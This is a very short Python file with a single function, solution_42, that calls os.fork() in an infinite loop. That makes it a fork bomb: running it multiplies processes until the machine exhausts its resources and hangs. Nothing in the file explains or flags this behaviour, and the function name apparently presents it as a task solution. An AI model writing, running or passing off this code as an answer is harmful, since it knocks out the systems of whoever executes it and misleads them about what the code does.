import os


def solution_42():
    while True:
        os.fork()
